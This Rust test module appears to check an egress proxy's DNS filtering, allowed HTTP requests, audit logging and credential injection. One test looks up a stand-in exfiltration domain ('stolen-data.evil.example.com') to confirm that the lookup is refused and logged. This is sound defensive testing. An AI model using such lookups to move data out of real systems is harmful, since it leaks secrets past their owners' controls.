//! What gets out: names that are resolved, a request that is allowed, a credential that is set.

use anyhow::Result;

use super::records::{line, reason_is};
use super::{Marker, Stage, ensure};
use crate::addresses::{CLUSTER_DNS, DNS_SERVER, address_of};
use crate::place::Finished;

/// The status of an HTTP answer that `curl -i` printed (of the last one, when there were several).
pub(super) fn status(done: &Finished) -> Option<u16> {
    let head = done.stdout.lines().rfind(|l| l.starts_with("HTTP/"))?;
    head.split_whitespace().nth(1)?.parse().ok()
}

pub(super) fn dns(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let ask = "dig +tries=1 +time=4 +nocookie";
    let done = planner.sh(&format!(
        "{ask} docs.example.com | grep -E 'status|^docs|SERVER|Query time'"
    ))?;
    say.ran("pod", &done);
    let address = address_of("docs.example.com")
        .map(|a| a.to_string())
        .unwrap_or_default();
    ensure(done.stdout.contains(&address), "the name wasn't resolved")?;
    ensure(
        done.stdout.contains(&CLUSTER_DNS.to_string()),
        "the answer didn't come from the address that was asked",
    )?;
    let queries = node.outside.dns_queries();
    say.saw(
        "upstream",
        &format!("dnsmasq at {DNS_SERVER} was asked: {}", queries.join(", ")),
    );
    ensure(
        queries.iter().any(|q| q == "A docs.example.com"),
        "the upstream was never asked",
    )?;

    let done = planner.sh(&format!(
        "{ask} stolen-data.evil.example.com | grep -E 'status'"
    ))?;
    say.ran("pod", &done);
    ensure(
        done.stdout.contains("NXDOMAIN"),
        "a name that no rule names was not refused",
    )?;
    let asked = node.outside.dns_queries();
    ensure(
        !asked.iter().any(|q| q.contains("stolen-data")),
        "a refused name reached the upstream",
    )?;
    say.saw("upstream", "dnsmasq never heard of the second name");
    let audit = node.audit_line("that the name was denied", |l| {
        l["direction"] == "dns" && l["destination"]["host"] == "stolen-data.evil.example.com"
    })?;
    say.saw("audit", &line(&audit));
    ensure(
        audit["decision"] == "deny",
        "the audit line doesn't deny the name",
    )
}

pub(super) fn allowed(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let done = planner.curl(&["http://docs.example.com/guide?page=1"])?;
    say.ran("pod", &done);
    ensure(
        status(&done) == Some(200) && done.stdout.contains("hello from docs"),
        "the request didn't get through",
    )?;
    let seen = node.outside.requests_to("docs.example.com")?;
    let Some(seen) = seen.first() else {
        anyhow::bail!("the upstream saw nothing")
    };
    say.saw("upstream", &format!("{} from {}", seen.request, seen.from));
    ensure(
        seen.forwarded.is_empty(),
        "the upstream got an X-Forwarded-For",
    )?;
    let audit = node.audit_line("that the request was allowed", |l| {
        reason_is(l, "EGRESS_ALLOWED_BY_POLICY") && l["destination"]["host"] == "docs.example.com"
    })?;
    say.saw("audit", &line(&audit));
    ensure(
        audit["pod"]["name"] == "planner" && audit["rule"] == "docs",
        "the audit line names another pod or rule",
    )?;
    ensure(
        !audit.to_string().contains("page=1"),
        "the audit line has the query",
    )?;
    say.proved(Marker::EgressAllowed);
    Ok(())
}

pub(super) fn credential(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let done = planner.curl(&[
        "-H",
        "Authorization: Bearer the-pods-own",
        "http://api.example.com/v1/models",
    ])?;
    say.ran("pod", &done);
    ensure(
        status(&done) == Some(200),
        "the upstream refused the request",
    )?;
    let seen = node.outside.requests_to("api.example.com")?;
    let Some(seen) = seen.last() else {
        anyhow::bail!("the upstream saw nothing")
    };
    say.saw(
        "upstream",
        &format!("{}, token: {}", seen.request, seen.auth),
    );
    ensure(
        seen.auth == "right",
        "the upstream didn't see the right token alone",
    )?;

    let done = planner.curl(&["http://api.example.com/echo-token"])?;
    say.ran("pod", &done);
    ensure(
        status(&done) == Some(200),
        "the upstream refused the second request",
    )?;
    ensure(
        !done.all().contains(&node.secrets.api_token),
        "an upstream that echoes the token gives it to the pod",
    )?;
    let audit = node.audit_line("that a credential was set", |l| {
        reason_is(l, "CREDENTIAL_INJECTED_BY_ZEROPROXY")
            && l["destination"]["host"] == "api.example.com"
    })?;
    say.saw("audit", &line(&audit));
    say.proved(Marker::CredentialInjected);
    Ok(())
}
